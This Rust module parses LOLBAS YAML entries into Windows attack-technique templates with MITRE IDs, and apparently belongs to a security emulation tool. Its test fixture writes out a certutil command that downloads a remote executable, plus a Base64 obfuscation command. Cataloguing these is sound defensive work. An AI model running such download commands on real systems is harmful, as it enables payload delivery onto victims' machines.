//! LOLBAS: `yml/<folder>/<Name>.yml`, one template per entry of `Commands`, identified as
//! `<Name>#<n>` (1-based, in file order: upstream appends new commands at the end).
//!
//! The name is `<Name>: <Usecase>` (or the command's description when it has no use case), the
//! command is run from `cmd` (`command_prompt`), every LOLBAS entry is a Windows binary, and
//! `Resources[].Link` are the references. `Privileges` is kept as written; elevation is required
//! when it names an administrator or SYSTEM.

use serde::Deserialize;

use super::yaml::{self, trimmed};
use super::{Sink, file_name};
use crate::archive::TextFile;

/// The entries' template file (`YML-Template.yml`) is documentation, not a binary.
pub(crate) fn wanted(path: &str) -> bool {
    path.starts_with("yml/") && path.ends_with(".yml") && file_name(path) != "YML-Template.yml"
}

#[derive(Deserialize)]
#[serde(rename_all = "PascalCase")]
struct Entry {
    name: String,
    #[serde(default)]
    commands: Vec<Command>,
    resources: Option<Vec<Option<Resource>>>,
}

#[derive(Deserialize)]
#[serde(rename_all = "PascalCase")]
struct Command {
    command: Option<String>,
    description: Option<String>,
    usecase: Option<String>,
    privileges: Option<String>,
    #[serde(rename = "MitreID")]
    mitre_id: Option<String>,
}

#[derive(Deserialize)]
#[serde(rename_all = "PascalCase")]
struct Resource {
    link: Option<String>,
}

pub(crate) fn parse(file: &TextFile, sink: &mut Sink) {
    if file_name(&file.path) == "YML-Template.yml" {
        return;
    }
    sink.file();
    let entry: Entry = match yaml::from_str(&file.text) {
        Ok(e) => e,
        Err(e) => return sink.error(&file.path, e),
    };
    let name = entry.name.trim();
    let references: Vec<String> = entry
        .resources
        .unwrap_or_default()
        .into_iter()
        .filter_map(|r| r.and_then(|r| trimmed(r.link)))
        .collect();
    for (i, c) in entry.commands.into_iter().enumerate() {
        let description = trimmed(c.description).unwrap_or_default();
        let usecase = trimmed(c.usecase).unwrap_or_else(|| description.clone());
        let mut t = sink.blank(file, format!("{name}#{}", i + 1), format!("{name}: {usecase}"));
        t.technique_ids = sink.techniques(&file.path, &t.source_id, c.mitre_id);
        t.description = description;
        t.platforms = vec!["windows".into()];
        t.executor = Some("command_prompt".into());
        t.command = trimmed(c.command);
        t.privileges = trimmed(c.privileges);
        t.elevation_required = t.privileges.as_deref().is_some_and(|p| {
            let p = p.to_ascii_lowercase();
            p.starts_with("admin") || p.contains(" admin") || p.contains("system")
        });
        t.references = references.clone();
        sink.push(&file.path, t);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::templates::parse_templates;
    use domain::content::TemplateOrigin;

    const ENTRY: &str = r#"---
Name: Certutil.exe
Description: Windows binary used for handling certificates
Commands:
  - Command: certutil.exe -urlcache -f {REMOTEURL:.exe} {PATH:.exe}
    Description: Download and save an executable to disk.
    Usecase: Download file from Internet
    Category: Download
    Privileges: User
    MitreID: t1105
    OperatingSystem: Windows 10, Windows 11
    Tags:
      - Application: GUI
  - Command: certutil -encode {PATH} {PATH:.base64}
    Description: Command to encode a file using Base64
    Privileges: Local Admin
    MitreID: T1027.013
Resources:
  - Link: https://example.org/a
  - Link: https://example.org/b
"#;

    #[test]
    fn each_command_becomes_a_numbered_template() {
        let files = [
            TextFile { path: "yml/OSBinaries/Certutil.yml".into(), text: ENTRY.into() },
            TextFile { path: "YML-Template.yml".into(), text: "Name: Binary.exe".into() },
        ];
        let parsed = parse_templates(TemplateOrigin::Lolbas, &files);
        assert_eq!(parsed.files_read, 1);
        let [a, b] = parsed.templates.as_slice() else { panic!("{parsed:?}") };
        assert_eq!(
            (a.source_id.as_str(), a.name.as_str()),
            ("Certutil.exe#1", "Certutil.exe: Download file from Internet")
        );
        assert_eq!(
            (a.technique_ids.as_slice(), a.platforms.as_slice()),
            (&["T1105".to_owned()][..], &["windows".to_owned()][..])
        );
        assert_eq!(a.command.as_deref(), Some("certutil.exe -urlcache -f {REMOTEURL:.exe} {PATH:.exe}"));
        assert_eq!((a.privileges.as_deref(), a.elevation_required), (Some("User"), false));
        assert_eq!(a.references, ["https://example.org/a", "https://example.org/b"]);
        assert_eq!(b.source_id, "Certutil.exe#2");
        assert_eq!(b.name, "Certutil.exe: Command to encode a file using Base64");
        assert!(b.elevation_required);
        assert!(
            wanted("yml/OSBinaries/Certutil.yml") && !wanted("yml/YML-Template.yml") && !wanted("README.md")
        );
    }
}
